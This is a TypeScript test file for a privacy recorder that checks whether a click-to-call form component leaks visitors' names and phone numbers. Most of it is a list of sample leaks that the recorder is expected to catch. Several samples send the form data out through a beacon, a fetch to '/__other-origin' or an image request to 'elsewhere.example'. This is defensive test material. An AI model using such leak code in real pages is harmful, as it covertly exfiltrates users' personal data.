/** The recording page of the privacy tests detects every way in which a page could expose the form values. */
import { expect } from '@open-wc/testing';
import { loadRecordingPage, type RecordingPage } from '../helpers/private-page.js';

const visitor = {
  firstname: 'Quirinia',
  lastname: 'Zyxwvutska',
  phonenumber: '+44 20 7946 0123',
} as const;

describe('the recording page', () => {
  const secret = visitor.phonenumber;
  const form = { ...visitor };
  const violation = (window: Window): Promise<unknown> =>
    new Promise((resolve) => {
      window.addEventListener('securitypolicyviolation', resolve, { once: true });
    });
  const leaks: Record<string, (window: RecordingPage['window']) => unknown> = {
    'a line in the console': (window) => {
      window.console.debug('sent', { form });
    },
    'an error in the console whose cause holds it': (window) => {
      window.console.error(new window.Error('No.', { cause: { number: secret } }));
    },
    'an entry in the history': (window) => {
      window.history.replaceState({ number: secret }, '');
    },
    'an address with it': (window) => {
      window.history.replaceState(null, '', `?${new URLSearchParams(form).toString()}`);
    },
    'a fragment with it': (window) => {
      window.location.hash = encodeURIComponent(secret);
    },
    'a cookie': (window) => {
      window.document.cookie = `name=${form.firstname}; max-age=0`;
    },
    'something in storage': (window) => {
      window.sessionStorage.setItem('form', JSON.stringify(form));
    },
    'something in storage, however it was put there': (window) => {
      window.sessionStorage.draft = 'zip';
    },
    'a title': (window) => {
      window.document.title = `Call ${secret}`;
    },
    'the name of the window': (window) => {
      window.name = secret;
    },
    'an attribute': (window) => {
      window.document.body.dataset.number = secret;
    },
    'an attribute of the element': (window) => {
      window.document.querySelector('click-to-call')?.setAttribute('data-number', '442079460123');
    },
    'an event of another name': (window) => {
      window.document.body.dispatchEvent(new window.CustomEvent('lead', { detail: form }));
    },
    'the number in an event of ours': (window) => {
      const event = new window.CustomEvent('completed', { detail: { form: {}, number: secret } });
      window.document.querySelector('click-to-call')?.dispatchEvent(event);
    },
    'an event of ours that bubbles': (window) => {
      const event = new window.CustomEvent('closed', { bubbles: true });
      window.document.querySelector('click-to-call')?.dispatchEvent(event);
    },
    'a message to another window': (window) => {
      window.postMessage(form, '*');
    },
    'a message to another tab': (window) => {
      new window.BroadcastChannel('calls').postMessage(form);
    },
    'a database, whatever its name': (window) => {
      window.indexedDB.open('drafts');
    },
    'a cache, whatever its name': async (window) => {
      await window.caches.open('drafts');
    },
    // WebKitGTK has no such storage.
    ...('storage' in navigator && {
      'a file': async (window: Window) => {
        await window.navigator.storage.getDirectory().catch(() => undefined);
      },
    }),
    'a measurement': (window) => {
      window.performance.mark(form.lastname);
    },
    'a beacon': (window) => {
      window.navigator.sendBeacon('/__other-origin', secret);
    },
    'a request by XMLHttpRequest': (window) => {
      new window.XMLHttpRequest().open('GET', `/?${form.firstname}`);
    },
    'a query': async (window) => {
      await window.fetch(`/__other-origin?to=${encodeURIComponent(secret)}`);
    },
    'an image from elsewhere': async (window) => {
      const forbidden = violation(window);
      new window.Image().src = `https://elsewhere.example/?${form.firstname}`;
      await forbidden;
    },
  };
  for (const [what, leak] of Object.entries(leaks)) {
    it(`detects ${what}`, async () => {
      const page = await loadRecordingPage('listening.html');
      page.expectNoTraceOf(...Object.values(visitor));
      await leak(page.window);
      expect(() => {
        page.expectNoTraceOf(...Object.values(visitor));
      }).to.throw();
      page.window.sessionStorage.clear();
      page.remove();
    });
  }
});
